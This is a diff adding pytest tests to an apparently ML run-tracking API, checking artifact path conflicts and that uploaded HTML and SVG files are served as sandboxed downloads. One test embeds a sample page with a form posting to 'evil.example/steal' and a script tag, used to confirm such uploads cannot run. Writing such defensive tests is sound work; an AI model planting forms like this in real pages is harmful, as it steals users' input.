@@ -106,3 +106,32 @@ def test_a_nul_in_a_spec_path_is_refused(client):
     response = client.post(f"{API}/runs", json={"spec": spec})
     assert response.status_code == 422, response.text
     assert _locs(response) == [["body", "spec", "dataset", "images_dir"]]
+
+
+def test_an_artifact_name_cannot_be_both_a_file_and_a_folder(client):
+    run = started_run(client)
+    put = lambda name: client.put(f"{API}/runs/{run['id']}/artifacts/{name}?attempt=1", content=b"1")  # noqa: E731
+    assert put("a").status_code == 201 and put("c/d").status_code == 201
+    for name in ("a/b", "c"):
+        response = put(name)
+        assert response.status_code == 409 and "both a file and a folder" in response.json()["detail"], name
+    assert client.get(f"{API}/runs/{run['id']}/artifacts/a").content == b"1"
+
+
+# Row 9: uploaded pages never run in the dashboard's origin.
+
+
+def test_uploaded_html_and_svg_are_downloads_in_a_sandbox(client):
+    run = started_run(client)
+    page = b"<form action='https://evil.example/steal' method='post'><input name='t'></form><script>1</script>"
+    for name in ("evil.html", "evil.svg", "notes.txt"):
+        assert client.put(f"{API}/runs/{run['id']}/artifacts/{name}?attempt=1", content=page).status_code == 201
+        served = client.get(f"{API}/runs/{run['id']}/artifacts/{name}")
+        assert served.headers["content-disposition"].startswith("attachment"), name
+        policy = served.headers["content-security-policy"]
+        assert policy.startswith("sandbox") and "default-src 'none'" in policy, name
+    png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 16
+    client.put(f"{API}/runs/{run['id']}/artifacts/overlays/epoch_001.png?attempt=1", content=png)
+    shown = client.get(f"{API}/runs/{run['id']}/artifacts/overlays/epoch_001.png")
+    assert shown.headers["content-disposition"].startswith("inline") and shown.headers["content-type"] == "image/png"
+    assert shown.headers["content-security-policy"].startswith("sandbox")
